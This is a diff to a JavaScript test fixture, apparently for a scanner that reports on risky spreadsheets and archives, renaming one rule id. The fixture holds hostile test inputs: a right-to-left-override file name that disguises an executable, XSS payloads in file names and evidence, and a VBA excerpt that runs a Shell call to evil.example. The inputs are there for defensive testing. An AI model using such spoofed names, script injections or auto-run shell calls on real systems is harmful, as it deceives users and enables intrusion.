@@ -13,7 +13,7 @@ export const hostileName = "請求書\u202Efdp.exe";
 export const sampleReport = () => ({
   schema: 1,
   engine: { version: "0.1.0", rules: "2026-11-22" },
-  verdict: { level: "stop", incomplete: true, reasons: ["vba.auto-run-acts", "zip.encrypted"] },
+  verdict: { level: "stop", incomplete: true, reasons: ["vba.auto-run-acts", "archive.encrypted"] },
   counts: { checked: 5, unchecked: 1 },
   advice: ["B1", "M3", "E1", "B2", "B4"],
   artifacts: [
@@ -21,7 +21,7 @@ export const sampleReport = () => ({
     { id: 1, parent: 0, name: "<img src=x onerror=alert(1)>.xlsm", origin: { kind: "entry", path: "a/<img src=x onerror=alert(1)>.xlsm", password: false }, format: null, class: "document", size: 999, sha256: null, status: "locked" },
   ],
   findings: [
-    { id: "zip.encrypted", severity: "unchecked", artifact: 0, advice: "E1", values: { names: "a.xlsm" }, evidence: [], more: 0 },
+    { id: "archive.encrypted", severity: "unchecked", artifact: 0, advice: "E1", values: { names: "a.xlsm" }, evidence: [], more: 0 },
     { id: "vba.auto-run-acts", severity: "stop", artifact: 1, advice: "M3", values: { trigger: "Workbook_Open", action: "run" },
       evidence: [{ path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "Shell \"https://evil.example/a\"\r\n<script>alert(1)</script>" }], more: 2 },
     { id: "file.irregular", severity: "none", artifact: 0, advice: null, values: { what: "x" }, evidence: [], more: 0 },
